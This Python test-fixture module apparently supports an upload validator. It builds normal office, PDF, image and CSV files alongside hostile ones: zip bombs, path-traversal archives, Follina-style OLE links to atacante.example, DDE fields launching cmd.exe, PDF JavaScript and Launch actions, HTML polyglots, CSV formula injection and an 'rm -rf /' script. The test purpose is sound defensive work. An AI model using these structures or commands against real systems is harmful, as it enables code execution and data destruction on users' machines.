"""Real files of every accepted format, and hostile ones, built in the tests."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image


def pdf(**catalogo):
    """A one-page PDF written by qpdf; ``catalogo`` adds entries to its catalogue."""
    documento = pikepdf.new()
    documento.add_blank_page(page_size=(612, 792))
    for clave, valor in catalogo.items():
        documento.Root[f"/{clave}"] = documento.make_indirect(valor) if isinstance(valor, pikepdf.Dictionary) else valor
    salida = io.BytesIO()
    documento.save(salida, deterministic_id=True)
    return salida.getvalue()


def imagen(formato, color=(120, 30, 60), tamano=(8, 8)):
    salida = io.BytesIO()
    Image.new("RGB", tamano, color).save(salida, formato)
    return salida.getvalue()


PDF = pdf()
PNG = imagen("PNG")
JPG = imagen("JPEG")
CSV = "institución,acción,fecha\nCFE,Pronunciamiento,2020-11-25\nIMSS,Difusión,2020-11-30\n".encode()
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode"
SCRIPT = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
HTML = b"<html><script>alert(document.cookie)</script></html>"


def _zip(entradas, metodo=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", metodo) as zf:
        for nombre, contenido in entradas:
            zf.writestr(nombre, contenido)
    return buffer.getvalue()


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TIPO_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENTO = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Oficio</w:t></w:r></w:p></w:body></w:document>'
HOJA = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>SUM(1,2)</f><v>3</v></c><c r="B1" t="str"><f>CONCAT("a","|","b")</f>'
        '<v>a|b</v></c></row></sheetData></worksheet>')


def relaciones(*relaciones):
    """A .rels part: (type, target, external?) tuples."""
    filas = "".join(
        f'<Relationship Id="rId{i}" Type="{tipo if "://" in tipo else TIPO_REL + tipo}" Target="{destino}"'
        + (' TargetMode="External"' if externo else "") + "/>"
        for i, (tipo, destino, externo) in enumerate(relaciones, 1)
    )
    return f'<Relationships xmlns="{RELS}">{filas}</Relationships>'


def docx(*extra, documento=DOCUMENTO, relaciones_documento=()):
    # Like every real package: the root relationships part "_rels/.rels" included.
    return _zip([("[Content_Types].xml", "<Types/>"), ("_rels/.rels", relaciones(("officeDocument", "word/document.xml", False))),
                 ("word/document.xml", documento),
                 ("word/_rels/document.xml.rels", relaciones(*relaciones_documento)), *extra])


def xlsx(*extra, hoja=HOJA, relaciones_libro=()):
    return _zip([("[Content_Types].xml", "<Types/>"), ("_rels/.rels", relaciones(("officeDocument", "xl/workbook.xml", False))),
                 ("xl/workbook.xml", "<workbook/>"),
                 ("xl/_rels/workbook.xml.rels", relaciones(("worksheet", "worksheets/sheet1.xml", False),
                                                           *relaciones_libro)),
                 ("xl/worksheets/sheet1.xml", hoja), *extra])


def xlsx_de_openpyxl():
    """A workbook exactly as a spreadsheet library saves it."""
    from openpyxl import Workbook

    libro = Workbook()
    libro.active.append(["institución", "acción"])
    libro.active.append(["CFE", "Pronunciamiento"])
    salida = io.BytesIO()
    libro.save(salida)
    return salida.getvalue()


def odt():
    return _zip([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<office/>")],
                metodo=zipfile.ZIP_STORED)


def ods():
    return _zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<office/>")],
                metodo=zipfile.ZIP_STORED)


def zip_de_pdfs():
    return _zip([("oficio.pdf", PDF), ("anexo/lista.csv", CSV)])


def zip_con_zip():
    return _zip([("dentro.zip", zip_de_pdfs())])


def zip_con_exe():
    return _zip([("instalador.pdf", EXE)])


def zip_bomba():
    """A few KB that expand to 50 MB of zeros."""
    return _zip([("ceros.csv", b"\x00" * (50 * 1024 * 1024))])


def zip_muchas_entradas(n=1500):
    return _zip([(f"f{i}.csv", CSV) for i in range(n)], metodo=zipfile.ZIP_STORED)


def pptx():
    return _zip([("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>")])


def zip_con_ruta(nombre="../../../../etc/cron.d/tarea.csv"):
    return _zip([(nombre, CSV)])


def zip_con_enlace_simbolico():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        info = zipfile.ZipInfo("enlace.csv")
        info.external_attr = (0o120777 << 16)  # S_IFLNK
        zf.writestr(info, "../../../tmp/a,b")
    return buffer.getvalue()


def docx_con_macro():
    return docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))


def docx_con_ejecutable():
    return docx(("payload.exe", EXE))


def zip_con_datos_ocultos():
    """An EXE as a local entry the central directory does not list, then a normal archive."""
    oculto = _zip([("instalador.exe", EXE)])
    visible = _zip([("oficio.pdf", PDF)])
    # Keep only the local header and data of the hidden entry.
    fin_local = oculto.find(b"PK\x01\x02")
    prefijo = oculto[:fin_local]
    desplazado = bytearray(visible)
    # Move the visible archive's offsets after the prefix.
    inicio_directorio = desplazado.find(b"PK\x01\x02")
    desplazamiento_local = int.from_bytes(desplazado[inicio_directorio + 42:inicio_directorio + 46], "little")
    desplazado[inicio_directorio + 42:inicio_directorio + 46] = (desplazamiento_local + len(prefijo)).to_bytes(4, "little")
    fin = desplazado.find(b"PK\x05\x06")
    inicio = int.from_bytes(desplazado[fin + 16:fin + 20], "little")
    desplazado[fin + 16:fin + 20] = (inicio + len(prefijo)).to_bytes(4, "little")
    return prefijo + bytes(desplazado)


def zip_crc_incorrecto():
    datos = bytearray(_zip([("datos.csv", CSV)], metodo=zipfile.ZIP_STORED))
    posicion = datos.find("institución".encode())
    datos[posicion] ^= 0xFF
    return bytes(datos)


def zip_metodo_desconocido():
    datos = bytearray(_zip([("datos.csv", CSV)], metodo=zipfile.ZIP_STORED))
    for firma, desplazamiento in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        posicion = datos.find(firma)
        datos[posicion + desplazamiento:posicion + desplazamiento + 2] = (9).to_bytes(2, "little")
    return bytes(datos)


def zip_que_declara_muchas_entradas():
    datos = bytearray(_zip([("datos.csv", CSV)]))
    fin = datos.find(b"PK\x05\x06")
    datos[fin + 8:fin + 12] = (60000).to_bytes(2, "little") * 2
    return bytes(datos)


CSV_CON_FORMULA = "institución,enlace\nCFE,\"=HYPERLINK(\"\"http://ejemplo\"\";\"\"clic\"\")\"\nIMSS,=1+2\n".encode()
PDF_CON_COLA = PDF + EXE
CSV_LARGO_UTF8 = ("institución,acción\n" + "Secretaría de Bienestar,Difusión ñandú\n" * 3000).encode()


# Active content in Office and ODF documents (issue 14) -----------------------------------

def docx_con_hipervinculo():
    """A plain web link: the one external relationship a document may have."""
    return docx(relaciones_documento=[("hyperlink", "https://www.gob.mx/inmujeres", True)])


def docx_plantilla_remota():
    """settings.xml.rels attaches a template fetched from a server when the file opens."""
    return docx(("word/settings.xml", f'<w:settings xmlns:w="{W}"/>'),
                ("word/_rels/settings.xml.rels",
                 relaciones(("attachedTemplate", "http://atacante.example/plantilla.dotm", True))))


def docx_follina():
    """An external OLE object whose target is an mhtml: URL (CVE-2022-30190)."""
    return docx(relaciones_documento=[("oleObject", "mhtml:http://atacante.example/x.html!x-usc:http://atacante.example/x",
                                       True)])


def docx_hipervinculo_a_programa():
    """A "hyperlink" relationship whose target is not a web address."""
    return docx(relaciones_documento=[("hyperlink", "ms-msdt:/id PCWDiagnostic", True)])


def docx_activex():
    return docx(("word/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'))


def docx_campo_dde(partido=False):
    """A DDEAUTO field; ``partido`` splits its code across runs, as Word writes it."""
    if partido:
        cuerpo = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
                  '<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
                  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
                  '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    else:
        cuerpo = '<w:fldSimple w:instr=\'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"\'/>'
    return docx(documento=f'<w:document xmlns:w="{W}"><w:body><w:p>{cuerpo}</w:p></w:body></w:document>')


def docx_campo_pagina():
    """An ordinary field (the page number) stays accepted."""
    cuerpo = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return docx(documento=f'<w:document xmlns:w="{W}"><w:body><w:p>{cuerpo}</w:p></w:body></w:document>')


def docx_con_dtd():
    """A "billion laughs" entity declaration: XML parts may not declare a DTD."""
    return docx(documento='<!DOCTYPE w [<!ENTITY a "aaaa">]><w:document xmlns:w="' + W + '">&a;</w:document>')


def xlsx_dde():
    """An external link part with a DDE link to cmd, and the workbook's relationship to it."""
    vinculo = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')
    return xlsx(("xl/externalLinks/externalLink1.xml", vinculo),
                relaciones_libro=[("externalLink", "externalLinks/externalLink1.xml", False)])


def xlsx_formula_dde():
    hoja = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>')
    return xlsx(hoja=hoja)


def _odt(*extra):
    return _zip([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", CONTENIDO_ODT),
                 ("META-INF/manifest.xml", "<manifest/>"), *extra], metodo=zipfile.ZIP_STORED)


CONTENIDO_ODT = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                 'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
                 '<text:p><text:a xlink:href="https://www.gob.mx">sitio</text:a></text:p>'
                 '</office:text></office:body></office:document-content>')


def odt_como_libreoffice():
    """What LibreOffice writes: an empty Configurations2 part, a thumbnail and settings."""
    return _odt(("Configurations2/accelerator/current.xml", ""), ("settings.xml", "<office:settings "
                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
                ("Thumbnails/thumbnail.png", PNG), ("Pictures/logo.png", PNG))


def odt_con_carga_en_configurations2():
    return _odt(("Configurations2/payload.exe", EXE))


def odt_con_macro_basic():
    return _odt(("Basic/Standard/Module1.xml", "<script:module/>"))


def odt_con_evento():
    """A macro bound to the document's open event (the LibreLogo pattern)."""
    contenido = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
                 'xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
                 '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
                 'xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?location=share"/>'
                 '</office:event-listeners></office:scripts></office:document-content>')
    return _zip([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", contenido)],
                metodo=zipfile.ZIP_STORED)


def ods_con_dde():
    contenido = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:dde-links>'
                 '<table:dde-link/></table:dde-links></office:document-content>')
    return _zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", contenido)],
                metodo=zipfile.ZIP_STORED)


# Active content in PDF and images -------------------------------------------------------------

def pdf_con_javascript():
    """JavaScript run when the document opens (OpenAction)."""
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hola')")))


def pdf_con_launch():
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def pdf_con_adjunto():
    documento = pikepdf.new()
    documento.add_blank_page()
    documento.attachments["instalador.exe"] = pikepdf.AttachedFileSpec(documento, EXE)
    salida = io.BytesIO()
    documento.save(salida, deterministic_id=True)
    return salida.getvalue()


def pdf_html_poliglota():
    """A PDF that is also a web page: HTML in a comment right after the header."""
    return PDF.replace(b"\n", b"\n%<html><body><script>alert(document.domain)</script></body></html>\n", 1)


PDF_ILEGIBLE = b"%PDF-1.7\n" + b"\x00\x01basura" * 40 + b"\n%%EOF\n"
PNG_CON_HTML = b"\x89PNG\r\n\x1a\n" + HTML
JPG_CON_HTML = b"\xff\xd8\xff\xe0" + HTML
PNG_CON_COLA = PNG + HTML
JPG_CON_COLA = JPG + EXE


def png_enorme():
    """Declares 60,000 × 60,000 pixels in its header (with a valid checksum): far more
    than any evidence photograph, and gigabytes once decoded."""
    cabecera = b"IHDR" + struct.pack(">II", 60000, 60000) + PNG[24:29]
    return PNG[:12] + cabecera + struct.pack(">I", zlib.crc32(cabecera)) + PNG[33:]


# The CSV formula check (issue 14, item 4) ---------------------------------------------------

CSV_MENOS_DIGITO = "institución,nota\nCFE,-2+3+cmd|' /C calc'!A0\n".encode()
CSV_SOLO_CR = "institución,nota\r=1+2,ok\rIMSS,bien\r".encode()
CSV_CON_NEGATIVOS = "institución,saldo\nCFE,-1500\nIMSS,-3.5\n".encode()


# ZIP directories that lie (issue 14, item 5) ------------------------------------------------

def zip_directorio_que_miente(entradas):
    """``entradas`` empty files in the central directory; the end record declares one."""
    datos = bytearray(_zip([(f"{i:07d}.csv", b"") for i in range(entradas)], metodo=zipfile.ZIP_STORED))
    fin = datos.rfind(b"PK\x05\x06")
    datos[fin + 8:fin + 12] = struct.pack("<HH", 1, 1)
    return bytes(datos)


def a_zip64(datos, declaradas=None):
    """The same archive with ZIP64 end records (as some tools write even small archives):
    the classic end record's fields are set to 0xFFFF/0xFFFFFFFF."""
    fin = datos.rfind(b"PK\x05\x06")
    total, tamano, inicio = struct.unpack("<HII", datos[fin + 10:fin + 20])
    declaradas = total if declaradas is None else declaradas
    registro = (b"PK\x06\x06" + struct.pack("<QHHII", 44, 45, 45, 0, 0)
                + struct.pack("<QQQQ", declaradas, declaradas, tamano, inicio))
    localizador = b"PK\x06\x07" + struct.pack("<IQI", 0, fin, 1)
    clasico = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return datos[:fin] + registro + localizador + clasico
